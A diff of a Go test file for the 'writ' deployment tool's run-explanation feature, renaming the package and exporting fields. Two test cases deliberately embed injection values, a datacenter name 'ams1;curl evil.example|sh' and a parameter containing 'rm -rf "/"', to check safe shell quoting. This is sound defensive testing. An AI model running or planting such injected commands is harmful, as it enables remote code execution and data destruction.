@@ -1,4 +1,4 @@
-package main
+package why
 
 import (
 	"os/exec"
@@ -42,183 +42,183 @@ func TestEveryWaitAndFailureHasItsSentence(t *testing.T) {
 		return writ.Reason{Code: writ.ReasonRetry, Until: time.Date(2026, 3, 1, 12, minute, 3, 0, time.UTC), Error: failed(writ.CodeInjected)}
 	}
 	progress := func(text string) writ.Reason { return writ.Reason{Code: writ.ReasonProgress, Text: text} }
-	runWaits := func(s *situation, why writ.Reason) {
-		s.run.State, s.run.Why, s.run.Reason = api.RunStateAccepted, why, why.String()
+	runWaits := func(s *Situation, why writ.Reason) {
+		s.Run.State, s.Run.Why, s.Run.Reason = api.RunStateAccepted, why, why.String()
 	}
 	for _, tt := range []struct {
 		name   string
-		change func(s *situation)
+		change func(s *Situation)
 		why    string // of the run
 		next   string
 		calls  string // all texts about calls
 	}{
-		{"SplitByARead", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeResourceConflict, 3)
+		{"SplitByARead", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeResourceConflict, 3)
 			made := func(node writ.NodeID) func(c *writ.Call) {
 				return func(c *writ.Call) { c.Node, c.Change = node, writ.ChangeCreated }
 			}
-			s.calls = []writ.Call{volume(1, writ.CallSucceeded, made("n")), volume(2, writ.CallSucceeded, made("m")),
+			s.Calls = []writ.Call{volume(1, writ.CallSucceeded, made("n")), volume(2, writ.CallSucceeded, made("m")),
 				volume(3, writ.CallFailed, func(c *writ.Call) { c.After, c.Error = []int{1, 2}, failed(writ.CodeResourceConflict) })}
 		}, "call 3 (volume.create v) failed: RESOURCE_CONFLICT", "writ check web.tengo", ""},
-		{"SubmissionWaits", func(s *situation) { s.run.State, s.run.Accepted = api.RunStateWaiting, time.Time{} }, "waits for its datacenter ams1 to connect", "writ dc list", ""},
-		{"SubmissionRefused", func(s *situation) {
-			s.run.State, s.run.Accepted, s.run.Failure = api.RunStateRefused, time.Time{}, failure(writ.CodeRoleMissing, 0)
+		{"SubmissionWaits", func(s *Situation) { s.Run.State, s.Run.Accepted = api.RunStateWaiting, time.Time{} }, "waits for its datacenter ams1 to connect", "writ dc list", ""},
+		{"SubmissionRefused", func(s *Situation) {
+			s.Run.State, s.Run.Accepted, s.Run.Failure = api.RunStateRefused, time.Time{}, failure(writ.CodeRoleMissing, 0)
 		}, "ROLE_MISSING: told to fail", "writ submit web.tengo --project shop --dc ams1", ""},
-		{"DatacenterAway", func(s *situation) { s.datacenter.Health = api.DatacenterHealthAway }, "datacenter ams1 is away", "writ dc list", ""},
-		{"NodeOfADatacenterThatIsAway", func(s *situation) {
+		{"DatacenterAway", func(s *Situation) { s.datacenter.Health = api.DatacenterHealthAway }, "datacenter ams1 is away", "writ dc list", ""},
+		{"NodeOfADatacenterThatIsAway", func(s *Situation) {
 			s.datacenter.Health = api.DatacenterHealthAway
-			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning)}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
+			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning)}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
 		}, "datacenter ams1 is away", "writ dc list", "n1 has worked on it for 1m0s, in attempt 1 "},
-		{"SignerRevoked", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateCancelled, failure(writ.CodeSignerRevoked, 0)
+		{"SignerRevoked", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateCancelled, failure(writ.CodeSignerRevoked, 0)
 		}, "SIGNER_REVOKED", "writ run show " + string(id), ""},
-		{"Blocked", func(s *situation) {
+		{"Blocked", func(s *Situation) {
 			runWaits(s, writ.Reason{Code: writ.ReasonRun, Run: other, Deployment: "web"})
 		}, "an earlier one of the deployment web", "writ run explain " + string(other), ""},
-		{"OnHold", func(s *situation) {
+		{"OnHold", func(s *Situation) {
 			runWaits(s, hold(writ.HoldReason{Datacenter: "ams1", By: "alice", Text: "the node n1 burns"}))
 		}, "alice has held the datacenter since", "writ release --dc ams1", ""},
-		{"CallOnHold", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(hold(writ.HoldReason{Datacenter: "ams1", Operation: "volume", By: "bob"})))}
+		{"CallOnHold", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(hold(writ.HoldReason{Datacenter: "ams1", Operation: "volume", By: "bob"})))}
 		}, "waits for 1", "", "since 12:00:05 UTC writ release --dc ams1 --operation volume"},
-		{"ACommandThatNobodyShouldType", func(s *situation) {
+		{"ACommandThatNobodyShouldType", func(s *Situation) {
 			runWaits(s, hold(writ.HoldReason{Datacenter: "ams1;curl evil.example|sh", By: "eve", Text: "evil"}))
 		}, "it is on hold: eve has held the datacenter since 12:00:05 UTC (evil)", "writ run watch " + string(id), ""},
-		{"AfterARestore", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNodeReport, Nodes: []writ.NodesReason{{Names: []string{"n2"}}}}))}
+		{"AfterARestore", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNodeReport, Nodes: []writ.NodesReason{{Names: []string{"n2"}}}}))}
 		}, "waits for 1", "", "came from a backup writ node list"},
-		{"BeforeItsFirstPass", func(s *situation) { s.run.State = api.RunStateAccepted }, "evaluated next", "writ run watch " + string(id), ""},
-		{"NoNode", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNoNode, Nodes: []writ.NodesReason{{Names: []string{"n1"}, Text: "is silent"}}}))}
+		{"BeforeItsFirstPass", func(s *Situation) { s.Run.State = api.RunStateAccepted }, "evaluated next", "writ run watch " + string(id), ""},
+		{"NoNode", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNoNode, Nodes: []writ.NodesReason{{Names: []string{"n1"}, Text: "is silent"}}}))}
 		},
 			"waits for 1 of its 1 call: call 1 (volume.create v)", "", "no node is ready: n1: is silent writ node list"},
-		{"ResourceBusy", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonResource, Run: other, Resource: "volume v"}))}
+		{"ResourceBusy", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonResource, Run: other, Resource: "volume v"}))}
 		}, "waits for 1", "", "still works on the volume v writ run explain " + string(other)},
-		{"Retry", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(retry(0)))}
+		{"Retry", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(retry(0)))}
 		},
 			"waits for 1", "", "is tried again at 12:00:03 UTC, after INJECTED"},
-		{"RetryAtANodeThatTakesNothing", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, because(retry(30)), func(c *writ.Call) { c.Error = failed(writ.CodeInjected) })}
+		{"RetryAtANodeThatTakesNothing", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(retry(30)), func(c *writ.Call) { c.Error = failed(writ.CodeInjected) })}
 			s.nodes["n"] = writ.Node{Liveness: writ.LivenessReady, Health: writ.Health{Fault: "the node's journal cannot be written: the disk is full"}}
 		}, "waits for 1", "", "n1, where it goes, takes no work: the node's journal cannot be written: the disk is full; its last attempt ended with INJECTED: told to fail writ node show n1 --dc ams1"},
-		{"Dependency", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallRunning), volume(2, writ.CallPlanned, func(c *writ.Call) { c.After = []int{1} })}
+		{"Dependency", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallRunning), volume(2, writ.CallPlanned, func(c *writ.Call) { c.After = []int{1} })}
 		}, "waits for 2 of its 2 calls", "", "it needs call 1 (volume.create v), which is running"},
-		{"BehindOthers", func(s *situation) {
-			s.calls, s.queues["n"] = []writ.Call{volume(1, writ.CallPlanned)}, writ.QueueDepth{Planned: 7, Queued: 4, Running: 4}
+		{"BehindOthers", func(s *Situation) {
+			s.Calls, s.queues["n"] = []writ.Call{volume(1, writ.CallPlanned)}, writ.QueueDepth{Planned: 7, Queued: 4, Running: 4}
 		}, "waits for 1", "", "it waits for a slot of n1: 8 calls are there already, 7 wait for capacity writ node list"},
-		{"Sent", func(s *situation) {
-			s.calls, s.queues["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.QueueDepth{Queued: 3, Running: 4}
+		{"Sent", func(s *Situation) {
+			s.Calls, s.queues["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.QueueDepth{Queued: 3, Running: 4}
 		}, "waits for 1", "", "which works on 4 calls and has 2 more"},
-		{"SentToASilentNode", func(s *situation) {
-			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
+		{"SentToASilentNode", func(s *Situation) {
+			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
 		}, "waits for 1", "", "which is silent since"},
-		{"SentToALostNode", func(s *situation) {
-			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
+		{"SentToALostNode", func(s *Situation) {
+			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
 		}, "waits for 1", "", " writ node lost n1 --dc ams1"},
-		{"RunningOnALostNode", func(s *situation) {
-			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning)}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
+		{"RunningOnALostNode", func(s *Situation) {
+			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning)}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
 		}, "waits for 1", "", " writ node lost n1 --dc ams1"},
-		{"BoundToALostNode", func(s *situation) {
-			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNode, Node: "n1", State: "lost"}))}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
+		{"BoundToALostNode", func(s *Situation) {
+			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNode, Node: "n1", State: "lost"}))}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
 		}, "waits for 1", "", " writ node lost n1 --dc ams1"},
-		{"ScriptWaitsForALostNode", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallQueued, because(writ.Reason{Code: writ.ReasonLostNode, Node: "n1"}))}
+		{"ScriptWaitsForALostNode", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallQueued, because(writ.Reason{Code: writ.ReasonLostNode, Node: "n1"}))}
 		}, "waits for 1", "", "waits for it (on_loss) writ node lost n1 --dc ams1"},
-		{"Running", func(s *situation) { s.calls = []writ.Call{volume(1, writ.CallRunning)} }, "waits for 1", "", "n1 has worked on it for 1m0s, in attempt 1"},
-		{"Hanging", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallRunning, because(progress("0 %")), func(c *writ.Call) { c.EndBy = now.Add(time.Hour) })}
+		{"Running", func(s *Situation) { s.Calls = []writ.Call{volume(1, writ.CallRunning)} }, "waits for 1", "", "n1 has worked on it for 1m0s, in attempt 1"},
+		{"Hanging", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallRunning, because(progress("0 %")), func(c *writ.Call) { c.EndBy = now.Add(time.Hour) })}
 		}, "waits for 1", "writ run watch " + string(id), "in attempt 1, which its timeout ends by " + cli.Clock(now.Add(time.Hour)) + ": 0 % writ run cancel " + string(id)},
-		{"FarOn", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallRunning, because(progress("64 of 2048 MiB are there")))}
+		{"FarOn", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallRunning, because(progress("64 of 2048 MiB are there")))}
 		}, "waits for 1", "", "n1 has worked on it for 1m0s, in attempt 1: 64 of 2048 MiB are there"},
-		{"FarOnAtASilentNode", func(s *situation) {
-			s.calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning, because(progress("64 of 2048 MiB are there")))}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
+		{"FarOnAtASilentNode", func(s *Situation) {
+			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning, because(progress("64 of 2048 MiB are there")))}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
 		}, "waits for 1", "", "; 64 of 2048 MiB are there writ node show n1 --dc ams1"},
-		{"BehindAStuckDriver", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallRunning, func(c *writ.Call) { c.Kind = writ.KindVolume })}
+		{"BehindAStuckDriver", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallRunning, func(c *writ.Call) { c.Kind = writ.KindVolume })}
 			s.nodes["n"] = writ.Node{Liveness: writ.LivenessReady, Health: writ.Health{Stuck: []writ.Stuck{
 				{JobKey: writ.JobKey{Run: other, Seq: 3, Attempt: 1}, Operation: "volume.create", Name: "w", Since: now},
 				{JobKey: writ.JobKey{Run: other, Seq: 4, Attempt: 1}, Operation: "volume.create", Name: "v", Since: now},
 			}}}
 		}, "waits for 1", "", "on n1 the driver of volume.create in call 4 of run " + string(other)},
-		{"Unplaced", func(s *situation) {
-			s.calls = []writ.Call{volume(1, writ.CallPlanned, func(c *writ.Call) { c.Node = "" })}
+		{"Unplaced", func(s *Situation) {
+			s.Calls = []writ.Call{volume(1, writ.CallPlanned, func(c *writ.Call) { c.Node = "" })}
 		}, "waits for 1", "", "gets its node"},
-		{"DeadlineSoon", func(s *situation) { s.run.Deadline = now.Add(2 * time.Minute) }, "its deadline is in 2m", "", ""},
-		{"FailedCall", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeInjectedFinal, 1)
-			s.calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeInjectedFinal) })}
+		{"DeadlineSoon", func(s *Situation) { s.Run.Deadline = now.Add(2 * time.Minute) }, "its deadline is in 2m", "", ""},
+		{"FailedCall", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeInjectedFinal, 1)
+			s.Calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeInjectedFinal) })}
 		}, "call 1 (volume.create v) failed: INJECTED_FINAL: told to fail, at web.tengo:3:1", "writ run resume " + string(id), ""},
-		{"FailedByItsOwner", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeNotOwner, 1)
-			s.calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeNotOwner) })}
+		{"FailedByItsOwner", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeNotOwner, 1)
+			s.Calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeNotOwner) })}
 		}, "NOT_OWNER", "writ plan web.tengo --project shop --dc ams1", ""},
-		{"FailedCallWithHandledError", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeInjectedFinal, 1)
-			s.run.Failure.Handled = true
-			s.calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeInjectedFinal) })}
+		{"FailedCallWithHandledError", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeInjectedFinal, 1)
+			s.Run.Failure.Handled = true
+			s.Calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeInjectedFinal) })}
 		}, "the script handled this error before, so a resume ends the same way", "writ submit web.tengo --project shop --dc ams1", ""},
-		{"FailedDependency", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeDependencyFailed, 2)
-			s.calls = []writ.Call{
+		{"FailedDependency", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeDependencyFailed, 2)
+			s.Calls = []writ.Call{
 				volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeInjectedFinal) }),
 				volume(2, writ.CallFailed, func(c *writ.Call) { c.After, c.Error = []int{1}, failed(writ.CodeDependencyFailed) }),
 			}
 		}, "call 2 (volume.create v) needs call 1 (volume.create v), which failed: INJECTED_FINAL", "writ run resume " + string(id), ""},
-		{"FailedScript", func(s *situation) { s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeScriptFailed, 0) }, "SCRIPT_FAILED", "writ submit web.tengo --project shop --dc ams1", ""},
-		{"FailedByItsLimit", func(s *situation) { s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeScriptLimit, 0) },
+		{"FailedScript", func(s *Situation) { s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeScriptFailed, 0) }, "SCRIPT_FAILED", "writ submit web.tengo --project shop --dc ams1", ""},
+		{"FailedByItsLimit", func(s *Situation) { s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeScriptLimit, 0) },
 			"SCRIPT_LIMIT", "writ plan web.tengo --project shop --dc ams1", ""},
-		{"FailedToBeUnderstood", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeScriptInvalid, 0)
+		{"FailedToBeUnderstood", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeScriptInvalid, 0)
 		},
 			"SCRIPT_INVALID", "writ check web.tengo", ""},
-		{"FailedAtAnotherEngine", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeEngineUnsupported, 0)
+		{"FailedAtAnotherEngine", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeEngineUnsupported, 0)
 		}, "ENGINE_UNSUPPORTED", "writ submit web.tengo --project shop --dc ams1", ""},
-		{"FailedEvaluator", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateFailed, failure(writ.CodeEvaluatorCrashed, 0)
+		{"FailedEvaluator", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeEvaluatorCrashed, 0)
 		},
 			"EVALUATOR_CRASHED", "writ run resume " + string(id), ""},
-		{"FailedAndTooLate", func(s *situation) {
-			s.run.State, s.run.Failure, s.run.Deadline = api.RunStateFailed, failure(writ.CodeEvaluatorCrashed, 0), now
+		{"FailedAndTooLate", func(s *Situation) {
+			s.Run.State, s.Run.Failure, s.Run.Deadline = api.RunStateFailed, failure(writ.CodeEvaluatorCrashed, 0), now
 		}, "EVALUATOR_CRASHED", "writ submit web.tengo --project shop --dc ams1", ""},
-		{"Cancelled", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateCancelled, &writ.Failure{Error: *writ.Errorf(writ.CodeRunCancelled, "cancelled by alice")}
+		{"Cancelled", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateCancelled, &writ.Failure{Error: *writ.Errorf(writ.CodeRunCancelled, "cancelled by alice")}
 		}, "cancelled by alice", "writ submit web.tengo --project shop --dc ams1", ""},
-		{"CancelledWithParameters", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateCancelled, failure(writ.CodeRunCancelled, 0)
-			s.run.Deployment, s.run.Script = "web", "my web.tengo"
+		{"CancelledWithParameters", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateCancelled, failure(writ.CodeRunCancelled, 0)
+			s.Run.Deployment, s.Run.Script = "web", "my web.tengo"
 			s.payload = &identity.Payload{Params: map[string]any{
 				"count": int64(3), "fast": true, "names": []any{"a,b", "c"}, "title": "it's $HOME; rm -rf \"/\"", "two": "lines\nand \u202eback",
 			}, Targets: []string{"volume/web-*"}, Secrets: []string{"db-password@3"}}
 		}, "RUN_CANCELLED", `writ submit 'my web.tengo' --project shop --dc ams1 --deployment web -p count=3 -p fast=true -p 'names=["a,b","c"]' ` +
 			`-p 'title=it'\''s $HOME; rm -rf "/"' -p $'two=lines\x0aand \U0000202eback' '--destructive=volume/web-*'`, ""},
-		{"Expired", func(s *situation) { s.run.State, s.run.Failure = api.RunStateExpired, failure(writ.CodeRunExpired, 0) }, "RUN_EXPIRED", "writ submit web.tengo --project shop --dc ams1", ""},
-		{"CancelledWhoseTextIsNotKnown", func(s *situation) {
-			s.run.State, s.run.Failure = api.RunStateCancelled, failure(writ.CodeRunCancelled, 0)
+		{"Expired", func(s *Situation) { s.Run.State, s.Run.Failure = api.RunStateExpired, failure(writ.CodeRunExpired, 0) }, "RUN_EXPIRED", "writ submit web.tengo --project shop --dc ams1", ""},
+		{"CancelledWhoseTextIsNotKnown", func(s *Situation) {
+			s.Run.State, s.Run.Failure = api.RunStateCancelled, failure(writ.CodeRunCancelled, 0)
 		},
 			"the coordinator does not have the signed text: add -p, --destructive and @REVISION of --deployment", "writ submit web.tengo --project shop --dc ams1", ""},
-		{"RefusedForItsRevision", func(s *situation) {
-			s.run.State, s.run.Accepted, s.run.Deployment, s.run.Failure = api.RunStateRefused, time.Time{}, "web", failure(writ.CodeConflict, 0)
+		{"RefusedForItsRevision", func(s *Situation) {
+			s.Run.State, s.Run.Accepted, s.Run.Deployment, s.Run.Failure = api.RunStateRefused, time.Time{}, "web", failure(writ.CodeConflict, 0)
 		}, "the coordinator does not have the signed text: add -p", "writ plan web.tengo --project shop --dc ams1 --deployment web", ""},
-		{"ExpiredBeforeItsDatacenterHadIt", func(s *situation) {
-			s.run.State, s.run.Accepted, s.run.Deployment, s.run.Failure = api.RunStateExpired, time.Time{}, "web", failure(writ.CodeRunExpired, 0)
+		{"ExpiredBeforeItsDatacenterHadIt", func(s *Situation) {
+			s.Run.State, s.Run.Accepted, s.Run.Deployment, s.Run.Failure = api.RunStateExpired, time.Time{}, "web", failure(writ.CodeRunExpired, 0)
 			s.payload = &identity.Payload{Deployment: identity.Deployment{Name: "web", Base: 3}, Params: map[string]any{"tag": "v3"}}
 		}, "RUN_EXPIRED", "writ submit web.tengo --project shop --dc ams1 --deployment web@3 -p tag=v3", ""},
-		{"Succeeded", func(s *situation) { s.run.State = api.RunStateSucceeded }, "all its calls have ended", "writ run show " + string(id), ""},
+		{"Succeeded", func(s *Situation) { s.Run.State = api.RunStateSucceeded }, "all its calls have ended", "writ run show " + string(id), ""},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
-			s := &situation{
-				run:        api.Run{ID: id, State: api.RunStateRunning, Script: "web.tengo", ProjectName: "shop", Accepted: now.Add(-time.Hour), Deadline: now.Add(time.Hour)},
+			s := &Situation{
+				Run:        api.Run{ID: id, State: api.RunStateRunning, Script: "web.tengo", ProjectName: "shop", Accepted: now.Add(-time.Hour), Deadline: now.Add(time.Hour)},
 				datacenter: api.Datacenter{Name: "ams1", Health: api.DatacenterHealthHealthy},
 				nodes:      map[writ.NodeID]writ.Node{"n": {Liveness: writ.LivenessReady}}, queues: map[writ.NodeID]writ.QueueDepth{}, now: now,
 			}
 			tt.change(s)
-			got := s.explain()
+			got := s.Explain()
 			if !strings.Contains(got.Why, tt.why) || tt.next != "" && got.Next.Line != tt.next {
 				t.Errorf("it says %q, next %q; want %q, %q", got.Why, got.Next.Line, tt.why, tt.next)
 			}
@@ -229,7 +229,7 @@ func TestEveryWaitAndFailureHasItsSentence(t *testing.T) {
 			if all := strings.Join(calls, "; "); !strings.Contains(all, tt.calls) {
 				t.Errorf("of the calls it says %q, want %q", all, tt.calls)
 			}
-			if text := got.text(); !strings.Contains(text, got.Why) {
+			if text := got.Text(); !strings.Contains(text, got.Why) {
 				t.Errorf("as text:\n%s", text)
 			}
 		})
@@ -267,11 +267,11 @@ func TestAResumeIsAdvisedOnlyWhereItCanHelp(t *testing.T) {
 		failed := writ.Call{Run: id, Seq: 1, Operation: "volume.create", Name: "v", State: writ.CallFailed, Node: "n", NodeName: "n1", Error: writ.Errorf(tt.code, "told to")}
 		needs := writ.Call{Run: id, Seq: 2, Operation: "machine.create", Name: "m", State: writ.CallFailed, After: []int{1}, Error: writ.Errorf(writ.CodeDependencyFailed, "told to")}
 		for seq, of := range map[int]writ.Call{1: failed, 2: needs} {
-			s := &situation{
-				run: api.Run{ID: id, State: api.RunStateFailed, Script: "web.tengo", Accepted: now, Deadline: now.Add(time.Hour), Failure: &writ.Failure{Error: *of.Error, Seq: seq}},
-				now: now, calls: []writ.Call{failed, needs}, nodes: map[writ.NodeID]writ.Node{"n": tt.node},
+			s := &Situation{
+				Run: api.Run{ID: id, State: api.RunStateFailed, Script: "web.tengo", Accepted: now, Deadline: now.Add(time.Hour), Failure: &writ.Failure{Error: *of.Error, Seq: seq}},
+				now: now, Calls: []writ.Call{failed, needs}, nodes: map[writ.NodeID]writ.Node{"n": tt.node},
 			}
-			if got := s.explain().Next.Line; got != tt.next {
+			if got := s.Explain().Next.Line; got != tt.next {
 				t.Errorf("%s of call %d, node %s: %q, want %q", tt.code, seq, tt.node.Admission, got, tt.next)
 			}
 		}
